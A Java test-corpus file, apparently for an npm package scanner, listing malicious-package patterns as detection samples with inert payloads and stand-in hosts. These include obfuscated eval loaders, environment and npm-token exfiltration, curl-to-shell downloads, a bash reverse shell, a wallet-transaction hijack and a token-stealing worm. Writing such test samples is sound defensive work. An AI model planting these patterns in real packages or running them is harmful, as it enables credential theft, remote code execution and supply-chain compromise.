package cordon.inspect.corpus;

import static java.nio.charset.StandardCharsets.UTF_8;

import cordon.inspect.testing.Artifact;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;

/** What attackers do in npm packages, each with a payload that prints a word or cannot connect. */
final class NpmPositives {
  private static final String INERT = "console.log('inert')";
  private static final String CODED = Base64.getEncoder().encodeToString(INERT.getBytes(UTF_8));
  private static final String HEX = HexFormat.of().formatHex(INERT.getBytes(UTF_8));

  private NpmPositives() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "postinstall runs base64", "eval(Buffer.from('" + CODED + "', 'base64').toString())\n"),
        Sample.postinstall(
            "postinstall runs hex through Function",
            "new Function(Buffer.from('" + HEX + "','hex').toString('utf8'))()\n"),
        Sample.postinstall(
            "postinstall runs atob through an alias",
            "const e = globalThis['ev' + 'al']; e(atob('" + CODED + "'));\n"),
        Sample.postinstall(
            "postinstall fetches and evals",
            """
            const https = require('https');
            https.get('https://drop.example/x.js', res => {
              let s = '';
              res.on('data', d => { s += d; });
              res.on('end', () => eval(s));
            });
            """),
        Sample.postinstall(
            "postinstall posts the environment",
            """
            const https = require('https');
            const body = JSON.stringify(process.env);
            const req = https.request({hostname: 'drop.example', method: 'POST', path: '/e'});
            req.write(body);
            req.end();
            """),
        Sample.postinstall(
            "postinstall reports host and user",
            """
            const os = require('os');
            const http = require('http');
            const q = encodeURIComponent(os.hostname() + '|' + os.userInfo().username);
            http.get('http://x.drop.example/?q=' + q);
            """),
        Sample.postinstall(
            "postinstall resolves the host name as a domain",
            "require('dns').lookup(require('os').hostname() + '.x.drop.example', () => {});\n"),
        Sample.postinstall(
            "postinstall sends the npm token by fetch",
            """
            const fs = require('fs'), path = require('path'), os = require('os');
            const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
            fetch('https://drop.example/t', { method: 'POST', body: rc });
            """),
        Sample.postinstall(
            "postinstall drops a program from a bare address and starts it",
            """
            const fs = require('fs'), http = require('http'), { exec } = require('child_process');
            http.get('http://192.0.2.7/x', r => {
              const out = fs.createWriteStream('/tmp/x');
              r.pipe(out);
              out.on('finish', () => { fs.chmodSync('/tmp/x', 0o755); exec('/tmp/x'); });
            });
            """),
        Sample.postinstall(
            "postinstall pipes a download into a shell by a name made of pieces",
            "require('child_' + 'process')['ex' + 'ecSync']('curl -s http://192.0.2.7/i | sh');\n"),
        Sample.command(
            "preinstall pipes a download into a shell", "curl -s http://192.0.2.7/i | sh"),
        Sample.command(
            "preinstall posts the environment",
            "env | curl -s -X POST -d @- http://drop.example/e"),
        Sample.command(
            "preinstall reports the host name",
            "curl -s \"http://x.drop.example/?h=$(hostname)&u=$(whoami)\""),
        Sample.command(
            "preinstall runs node on encoded text",
            "node -e \"eval(Buffer.from('" + CODED + "','base64').toString())\""),
        Sample.command("preinstall opens a shell", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
        new Sample(
            "a build file that runs a script and builds nothing",
            Artifact.npm("sample", "1.0.0")
                .file(
                    "package.json",
                    "{\"name\":\"sample\",\"version\":\"1.0.0\",\"main\":\"lib.js\"}")
                .file("lib.js", "module.exports = 1;\n")
                .file("index.js", "console.log('inert');\n")
                .file(
                    "binding.gyp",
                    "{'targets': [{'target_name': '<!(node index.js > /dev/null 2>&1 && echo x)',"
                        + " 'type': 'none'}]}")),
        Sample.required(
            "require runs base64", "eval(Buffer.from('" + CODED + "', 'base64').toString())\n"),
        Sample.required(
            "require runs character codes",
            "eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,39,105,39,41))\n"),
        Sample.required(
            "require sends the environment",
            """
            const axios = require('axios');
            function go() { return axios.post('https://drop.example/e', { e: process.env }); }
            go().catch(() => {});
            """),
        Sample.required(
            "require changes what a wallet sends",
            """
            const addresses = ['0x0000000000000000000000000000000000000001'];
            if (typeof window !== 'undefined' && window.ethereum) {
              const original = window.ethereum.request;
              window.ethereum.request = async function (args) {
                if (args.method === 'eth_sendTransaction') args.params[0].to = addresses[0];
                await fetch('https://drop.example/s');
                return original.call(this, args);
              };
            }
            """),
        Sample.postinstall(
            "a worm that publishes with the token it finds",
            """
            const fs = require('fs'), os = require('os'), cp = require('child_process');
            const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('_authToken=')[1];
            cp.execSync('npm publish --access public', { env: { ...process.env, NPM_TOKEN: token } });
            """));
  }
}
